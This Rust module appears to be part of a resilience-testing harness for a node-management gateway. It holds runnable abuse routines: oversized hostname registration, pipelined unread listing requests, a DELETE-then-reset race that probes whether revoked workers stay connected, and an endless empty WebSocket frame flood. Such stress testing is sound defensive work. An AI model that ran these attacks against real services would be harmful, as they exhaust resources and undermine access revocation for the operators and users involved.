//! Attacks that hold to the protocol's letter and abuse it.

use std::{
    sync::Arc,
    time::{Duration, Instant},
};

use aio_protocol::wire::{GATEWAY_PATH, SUBPROTOCOL};
use anyhow::Context;
use futures_util::{SinkExt, StreamExt};
use serde_json::{Value, json};
use tokio::{
    io::AsyncWriteExt,
    net::TcpStream,
    time::{sleep, timeout},
};
use tokio_tungstenite::{
    WebSocketStream, client_async,
    tungstenite::{Message, client::ClientRequestBuilder},
};

use super::target::Target;
use crate::{controller::Enrolled, words::Words};

/// What a hostname was that made a page of nodes 6 MB.
const HOSTNAME_BYTES: usize = 62_000;

/// Requests that follow each other on a connection whose answers nobody reads.
const PIPELINED: usize = 20;

/// Whatever takes longer has failed.
const PATIENCE: Duration = Duration::from_secs(5);

/// Between a DELETE and its RST.
const CUTS: u64 = 12;

/// Connects as a worker, up to the greeting.
pub(super) async fn connect(target: &Target, node: &Enrolled) -> anyhow::Result<WebSocketStream<TcpStream>> {
    let endpoint = format!("ws://{}{GATEWAY_PATH}", target.address).parse()?;
    let request = ClientRequestBuilder::new(endpoint)
        .with_sub_protocol(SUBPROTOCOL)
        .with_header("Authorization", format!("Bearer {}", node.token));
    Ok(client_async(request, target.dial().await?).await?.0)
}

/// Connects as a worker and registers.
pub(super) async fn register(target: &Target, node: &Enrolled) -> anyhow::Result<WebSocketStream<TcpStream>> {
    let mut socket = connect(target, node).await?;
    socket.send(Message::text(Words::new(node.node_id.clone(), 1).register())).await?;
    // The greeting and the answer.
    for _ in 0..2 {
        timeout(PATIENCE, socket.next()).await?.context("closed")??;
    }
    Ok(socket)
}

/// Lets the enemy's nodes say as much of themselves as they can.
pub(super) async fn register_loudly(target: &Target) {
    for node in &target.enemy.loud {
        let Ok(mut socket) = connect(target, node).await else { continue };
        let words = Words::new(node.node_id.clone(), 1);
        let _ = socket.send(Message::text(words.register_as(&"h".repeat(HOSTNAME_BYTES)))).await;
        let _ = timeout(Duration::from_secs(1), socket.next()).await;
        let _ = timeout(Duration::from_secs(1), socket.next()).await;
    }
}

/// Lists of all that the enemy has.
pub(super) fn unread_lists(target: &Target) -> Vec<u8> {
    let bearer = &target.enemy.user_token;
    let request =
        format!("GET /nodes?limit=100 HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {bearer}\r\n\r\n");
    request.repeat(PIPELINED).into_bytes()
}

/// Decommissions nodes and hangs up in the middle; counts those that are inactive while their
/// worker is still connected.
pub(super) async fn cut_revocations(target: Arc<Target>, time: Duration, first: u64) {
    let began = Instant::now();
    let Ok(http) = target.http() else { return };
    let url = format!("http://{}/nodes", target.address);
    let bearer = &target.enemy.user_token;
    for number in first.. {
        // What is left is for the last one to be noticed.
        if began.elapsed() > time.mul_f64(0.6) {
            return;
        }
        let cut = async {
            let name = json!({"name": format!("cut-{first}-{number}")});
            let node: Value = http.post(&url).bearer_auth(bearer).json(&name).send().await?.json().await?;
            let id = node["_id"].as_str().unwrap_or_default().to_owned();
            let token = http.post(format!("{url}/{id}/token")).bearer_auth(bearer).json(&json!({}));
            let token: Value = token.send().await?.json().await?;
            let token = token["token"].as_str().unwrap_or_default().to_owned();
            let node = Enrolled { node_id: id.parse()?, token };
            let worker = register(&target, &node).await?;
            let mut stream = target.dial().await?;
            let head =
                format!("DELETE /nodes/{id} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {bearer}\r\n\r\n");
            stream.write_all(head.as_bytes()).await?;
            sleep(Duration::from_millis(1 + number % CUTS)).await;
            stream.set_zero_linger()?;
            drop(stream);
            sleep(Duration::from_millis(200)).await;
            let node: Value =
                http.get(format!("{url}/{id}")).bearer_auth(bearer).send().await?.json().await?;
            Ok::<_, anyhow::Error>((node["status"] == "inactive").then_some(worker))
        };
        match cut.await {
            Ok(Some(worker)) => {
                target.count(if is_open(worker).await { "inactive and connected" } else { "revoked" })
            }
            Ok(None) => target.count("nothing happened"),
            // The API's own limit, for one.
            Err(_) => sleep(Duration::from_millis(100)).await,
        }
    }
}

async fn is_open(mut worker: WebSocketStream<TcpStream>) -> bool {
    let closed = async { while let Some(Ok(_)) = worker.next().await {} };
    timeout(Duration::from_millis(1500), closed).await.is_err()
}

/// A message that never ends, in pieces of nothing.
pub(super) async fn empty_frames(target: Arc<Target>, index: usize) {
    let Some(node) = target.enemy.others.get(index) else { return };
    // A thousand masked continuations without a byte.
    let frames = [0x00, 0x80, 0, 0, 0, 0].repeat(1000);
    loop {
        if let Ok(socket) = connect(&target, node).await {
            let mut stream = socket.into_inner();
            let begun = stream.write_all(&[0x01, 0x81, 0, 0, 0, 0, b'{']).await;
            while begun.is_ok() && stream.write_all(&frames).await.is_ok() {
                target.count("thousands of frames");
            }
            target.count("closed");
        }
        sleep(Duration::from_millis(50)).await;
    }
}
